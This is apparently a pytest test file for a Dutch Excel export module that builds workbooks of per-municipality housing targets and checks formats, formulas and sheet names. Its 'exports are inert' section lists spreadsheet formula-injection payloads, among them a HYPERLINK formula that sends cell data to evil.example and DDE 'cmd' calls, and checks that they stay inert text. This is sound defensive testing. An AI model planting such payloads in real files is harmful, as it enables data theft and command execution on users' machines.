"""core.xlsx, the one Excel writer: opened again with openpyxl, cell by cell."""

from __future__ import annotations

import datetime as dt
import io
from fractions import Fraction
from typing import Any

import pytest

from regietafel.core import xlsx as excel
from regietafel.core.tabel import Aandeel, Decimaal, Kolom, Percentage, Tabel, tekst


def _boek(*tabellen: Tabel, **kwargs: Any) -> Any:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(excel.werkboek(tabellen, titel="Proef", **kwargs)))


STAND = Tabel(
    sleutel="Verdeling",
    titel="Opgave en realisatie per gemeente",
    bijschrift="Een negatief verschil is een tekort.",
    kolommen=(
        Kolom("Gemeente", "tekst", breedte=18),
        Kolom("Opgave", groep="Oekraïne-opgave", sub="25/26", som=True),
        Kolom("Realisatie", groep="Oekraïne-opgave", som=True),
        Kolom("Verschil", "verschil", groep="Oekraïne-opgave", som=True),
        Kolom("Gerealiseerd van opgave", "procent", aandeel=(2, 1)),
        Kolom("Bonus", "euro", som=True),
        Kolom("Peildatum", "datum"),
    ),
    rijen=(
        ("Assen", 792, 822, 30, Aandeel(822, 792), 1000, dt.date(2025, 11, 1)),
        ("Midden-Drenthe", 500, 332, -168, Aandeel(332, 500), 0, dt.date(2025, 11, 1)),
        ("Westerveld", 0, 0, 0, Aandeel(0, 0), 2500, None),
    ),
    totaal=("Totaal", 1292, 1154, -138, Aandeel(1154, 1292), 3500, None),
)


def test_header_row_is_dutch_bold_and_frozen() -> None:
    ws = _boek(STAND)["Verdeling"]
    assert [c.value for c in ws[1]] == [
        "Gemeente",
        "Oekraïne-opgave – Opgave (25/26)",
        "Oekraïne-opgave – Realisatie",
        "Oekraïne-opgave – Verschil",
        "Gerealiseerd van opgave",
        "Bonus",
        "Peildatum",
    ]
    assert ws.freeze_panes == "B2"
    assert all(c.font.b for c in ws[1])
    assert ws.print_title_rows == "$1:$1"
    assert ws.auto_filter.ref == "A1:G4"


def test_values_are_numbers_with_dutch_number_formats() -> None:
    ws = _boek(STAND)["Verdeling"]
    assert [c.value for c in ws[2][:4]] == ["Assen", 792, 822, 30]
    assert ws["B2"].number_format == "#,##0"
    assert ws["D3"].value == -168 and ws["D3"].number_format == "+#,##0;-#,##0;0"
    assert ws["E2"].value == pytest.approx(822 / 792) and ws["E2"].number_format == "0%"
    assert ws["E4"].value == "n.v.t."  # no opgave: no share (R5)
    assert ws["F2"].number_format == '"€" #,##0'
    assert ws["G2"].value == dt.datetime(2025, 11, 1) and ws["G2"].number_format == "dd-mm-yyyy"
    assert ws["G4"].value is None
    assert ws["A2"].number_format == "General"


def test_total_row_holds_formulas_and_the_share_is_a_quotient() -> None:
    ws = _boek(STAND)["Verdeling"]
    totaal = [c.value for c in ws[5]]
    assert totaal[:4] == ["Totaal", "=SUM(B2:B4)", "=SUM(C2:C4)", "=SUM(D2:D4)"]
    assert totaal[4] == '=IF(B5>0,C5/B5,"n.v.t.")'
    assert totaal[5] == "=SUM(F2:F4)"
    assert totaal[6] is None
    assert ws["B5"].font.b and ws["B5"].number_format == "#,##0"
    assert ws["D5"].number_format == "+#,##0;-#,##0;0"
    assert ws["E5"].number_format == "0%"
    # The caption goes under the table, after an empty row.
    assert ws["A7"].value == (
        "Opgave en realisatie per gemeente. Een negatief verschil is een tekort."
    )


def test_one_sheet_per_table_and_dutch_document_properties() -> None:
    nidos = Tabel(
        sleutel="Nidos",
        titel="Nidos",
        bijschrift="",
        kolommen=(Kolom("Gemeente", "tekst"), Kolom("Gerealiseerd", som=True)),
        rijen=(("Assen", 5),),
    )
    wb = _boek(STAND, nidos, voettekst="Stand van zaken Drenthe")
    assert wb.sheetnames == ["Verdeling", "Nidos"]
    assert wb.properties.title == "Proef" and wb.properties.language == "nl-NL"
    assert wb["Nidos"]["A4"].value == "Nidos"
    assert wb["Nidos"].oddFooter.left.text == "Stand van zaken Drenthe"
    assert wb["Nidos"].oddFooter.right.text == "pagina &P van &N"
    with pytest.raises(ValueError, match="ten minste één tabel"):
        excel.werkboek([], titel="Leeg")


def test_row_sums_exact_decimals_and_percentages() -> None:
    tabel = Tabel(
        sleutel="Verdeling",
        titel="Scenario",
        bijschrift="",
        kolommen=(
            Kolom("Gemeente", "tekst"),
            Kolom("Regulier", som=True),
            Kolom("Amv", som=True),
            Kolom("Totaal", som=True, rijsom=(1, 2)),
            Kolom("Quotum", som=True),
            Kolom("p", "tekst"),
        ),
        rijen=(
            ("Assen", 1000, 40, 1040, Decimaal(Fraction(29541, 100)), Percentage(Fraction(1, 3))),
            ("Emmen", 900, 60, 960, Decimaal(Fraction(123962, 100)), "n.v.t."),
        ),
        totaal=("Totaal", 1900, 100, 2000, 1535, None),
    )
    ws = _boek(tabel)["Verdeling"]
    assert ws["D2"].value == "=B2+C2" and ws["D3"].value == "=B3+C3"
    assert ws["D4"].value == "=SUM(D2:D3)"
    assert ws["E2"].value == pytest.approx(295.41) and ws["E2"].number_format == "#,##0.00"
    assert ws["F2"].value == pytest.approx(1 / 3) and ws["F2"].number_format == "0.00%"
    assert ws["F3"].value == "n.v.t."
    # The same cells as the page prints them.
    assert tekst(tabel.kolommen[4], Decimaal(Fraction(123962, 100))) == "1.239,62"
    assert tekst(tabel.kolommen[5], Percentage(Fraction(1, 3))) == "33,33 %"


def test_title_lines_above_the_header_move_the_frozen_pane() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    excel.blad(
        wb.active, STAND, voettekst="v", koptekst=("Stand van zaken", "Peildatum: 01-11-2025")
    )
    ws = wb.active
    assert ws["A1"].value == "Stand van zaken" and ws["A1"].font.b
    assert ws["A2"].value == "Peildatum: 01-11-2025"
    assert ws["A4"].value == "Gemeente"
    assert ws.freeze_panes == "B5"
    assert ws["B8"].value == "=SUM(B5:B7)"
    assert ws["E8"].value == '=IF(B8>0,C8/B8,"n.v.t.")'
    assert ws.print_title_rows == "$4:$4"
    assert ws.auto_filter.ref == "A4:G7"


def test_sheet_names_lose_characters_excel_refuses() -> None:
    tabel = Tabel(
        sleutel="Opgave 25/26: [regulier]?",
        titel="t",
        bijschrift="",
        kolommen=(Kolom("Gemeente", "tekst"),),
        rijen=(("Assen",),),
    )
    assert _boek(tabel).sheetnames == ["Opgave 25 26   regulier  "]


def test_xlsx_antwoord_is_a_download() -> None:
    response = excel.xlsx_antwoord([STAND], bestandsnaam="stand.xlsx", titel="Stand")
    assert response["Content-Type"] == excel.XLSX_MIME
    assert response["Content-Disposition"] == 'attachment; filename="stand.xlsx"'
    assert response.content[:2] == b"PK"


# ---------------------------------------------------------------- exports are inert (issue 17)

VIJANDIG = (
    '=HYPERLINK("http://evil.example/?d="&A2,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "#N/A",
    "#DIV/0!",
)


def _opnieuw(wb: Any) -> Any:
    from openpyxl import load_workbook

    return load_workbook(io.BytesIO(excel.opslaan(wb)))


def test_user_text_is_a_typed_string_cell_never_a_formula() -> None:
    tabel = Tabel(
        sleutel="Locaties",
        titel=VIJANDIG[0],
        bijschrift=VIJANDIG[1],
        kolommen=(Kolom(VIJANDIG[2], "tekst"), Kolom("Plaatsen", som=True)),
        rijen=tuple((t, 10) for t in VIJANDIG),
        totaal=("Totaal", None),
    )
    ws = _boek(tabel)["Locaties"]
    assert ws["A1"].value == VIJANDIG[2] and ws["A1"].data_type == "s"
    cellen = {c.value: c for c in ws["A"][1 : len(VIJANDIG) + 1]}
    assert set(cellen) == set(VIJANDIG)
    for tekst_, c in cellen.items():
        assert c.data_type == "s", (tekst_, c.data_type)
    # Text a spreadsheet would read as a formula keeps its quote prefix when edited.
    assert cellen[VIJANDIG[0]].quotePrefix and cellen["-2+3"].quotePrefix
    assert not cellen["#N/A"].quotePrefix
    # The product's own total stays a formula; the caption is text.
    formules = [c for rij in ws.iter_rows() for c in rij if c.data_type == "f"]
    assert [c.value for c in formules] == [f"=SUM(B2:B{len(VIJANDIG) + 1})"]
    onderschrift = ws.cell(row=len(VIJANDIG) + 4, column=1)
    assert onderschrift.value.startswith(VIJANDIG[0]) and onderschrift.data_type == "s"


def test_numbers_stay_numbers() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    excel.regel(ws, ("Tekort", -5, 2.5, dt.date(2025, 11, 1), True))
    ws = _opnieuw(wb).active
    assert [c.value for c in ws[1]] == ["Tekort", -5, 2.5, dt.datetime(2025, 11, 1), True]
    assert [c.data_type for c in ws[1]][:3] == ["s", "n", "n"]


def test_regel_appends_as_ws_append_also_after_an_empty_row() -> None:
    from openpyxl import Workbook

    ws = Workbook().active
    assert excel.regel(ws, ("a",)) == 1
    assert excel.regel(ws, ()) == 2
    assert excel.regel(ws, ("=1+1", 3)) == 3
    assert ws["A3"].data_type == "s" and ws["B3"].value == 3


def test_a_formula_written_around_cel_is_made_text_when_the_workbook_is_saved() -> None:
    """``opslaan`` is the one exit: a cell written directly (``ws.append``, ``ws[...] =``)
    with text that openpyxl takes for a formula or an error leaves as text; a ``Formule``
    written through ``cel`` stays a formula."""
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["=cmd|' /C calc'!A0", "#N/A", 4])
    ws["A2"] = '=HYPERLINK("http://evil.example")'
    excel.cel(ws, 3, 1, excel.Formule("=SUM(C1:C1)"))
    excel.cel(ws, 4, 1, excel.Formule("=1+1"))
    excel.cel(ws, 4, 1, "=2+2")  # text over a formula: text
    assert excel.maak_inert(wb) == 3
    ws = _opnieuw(wb).active
    assert [(c.value, c.data_type) for c in (ws["A1"], ws["B1"], ws["A2"], ws["A4"])] == [
        ("=cmd|' /C calc'!A0", "s"),
        ("#N/A", "s"),
        ('=HYPERLINK("http://evil.example")', "s"),
        ("=2+2", "s"),
    ]
    assert (ws["A3"].value, ws["A3"].data_type) == ("=SUM(C1:C1)", "f")
    with pytest.raises(ValueError, match="begint met '='"):
        excel.Formule("SUM(A1)")


def test_control_characters_and_overlong_text_do_not_break_the_workbook() -> None:
    from openpyxl import Workbook

    wb = Workbook()
    excel.cel(wb.active, 1, 1, "naam\x00met\x07besturing")
    excel.cel(wb.active, 2, 1, "x" * 40_000)
    ws = _opnieuw(wb).active
    assert ws["A1"].value == "naam\ufffdmet\ufffdbesturing"
    assert len(ws["A2"].value) == excel.MAX_TEKST


def test_only_core_xlsx_creates_workbooks_and_only_core_csvexport_writes_csv() -> None:
    """The one safe path: no other module of the product builds a workbook (the readers of
    uploads only open one) or writes CSV."""
    import re
    from pathlib import Path

    import regietafel

    wortel = Path(regietafel.__file__).parent
    gevonden = []
    for pad in wortel.rglob("*.py"):
        naam = pad.relative_to(wortel).as_posix()
        tekst = pad.read_text(encoding="utf-8")
        for onderdeel in re.findall(r"from openpyxl import ([\w, ]+)|import openpyxl\b", tekst):
            namen = {n.strip() for n in onderdeel.split(",")} if onderdeel else {"openpyxl"}
            if naam != "core/xlsx.py" and namen - {"load_workbook"}:
                gevonden.append(f"{naam}: {sorted(namen)}")
        if re.search(r"csv\.writer|csv\.DictWriter", tekst) and naam != "core/csvexport.py":
            gevonden.append(f"{naam}: csv.writer")
    assert gevonden == []
